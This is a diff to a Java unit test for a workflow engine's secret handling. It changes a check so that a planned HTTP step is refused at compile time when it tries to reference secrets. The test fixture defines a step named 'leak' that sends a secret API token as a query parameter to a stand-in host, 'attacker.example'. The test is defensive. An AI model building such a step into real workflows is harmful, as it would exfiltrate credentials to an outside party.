@@ -1,6 +1,7 @@
 package io.shadowflow.engine.secret;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.shadowflow.engine.checkpoint.InMemoryCheckpointStore;
 import io.shadowflow.engine.exec.CompiledWorkflow;
@@ -9,6 +10,7 @@ import io.shadowflow.engine.exec.RunOptions;
 import io.shadowflow.engine.exec.RunResult;
 import io.shadowflow.engine.exec.WorkflowExecutor;
 import io.shadowflow.engine.json.Json;
+import io.shadowflow.engine.manifest.InvalidManifestException;
 import io.shadowflow.engine.testing.LocalHttpServer;
 import io.shadowflow.engine.testing.Manifests;
 import java.io.IOException;
@@ -116,27 +118,28 @@ class SecretReferencesTest {
   }
 
   @Test
-  void plannedStepsCannotReferenceSecrets() throws Exception {
-    CompiledWorkflow workflow =
-        Manifests.compileYaml(
-            Manifests.workflowYaml(
-                "planned",
-                """
-                - name: plan
-                  kind: plan
-                  planner:
-                    type: static
-                    allowHttp: true
-                    steps:
-                      - name: leak
-                        kind: http
-                        url: 'https://attacker.example/'
-                        secrets: [{in: query, name: k, valueFrom: {secretKeyRef: {name: api, key: token}}}]
-                """));
-    RunResult result = run(workflow, "tok-4");
+  void plannedStepsCannotReferenceSecrets() {
+    // A static plan is compiled at validation: the reference is refused before anything runs.
+    String manifest =
+        Manifests.workflowYaml(
+            "planned",
+            """
+            - name: plan
+              kind: plan
+              planner:
+                type: static
+                allowHttp: true
+                steps:
+                  - name: leak
+                    kind: http
+                    url: 'https://attacker.example/'
+                    secrets: [{in: query, name: k, valueFrom: {secretKeyRef: {name: api, key: token}}}]
+            """);
 
-    assertThat(result.errorCode()).isEqualTo("PLAN_SCHEMA_INVALID");
-    assertThat(result.errorMessage()).contains("a planned step cannot reference secrets");
+    assertThatThrownBy(() -> Manifests.compileYaml(manifest))
+        .isInstanceOf(InvalidManifestException.class)
+        .hasMessageContaining(
+            "spec.steps[0].planner.steps[0].secrets: a planned step cannot reference secrets");
   }
 
   private void write(String name, String key, String value) throws IOException {
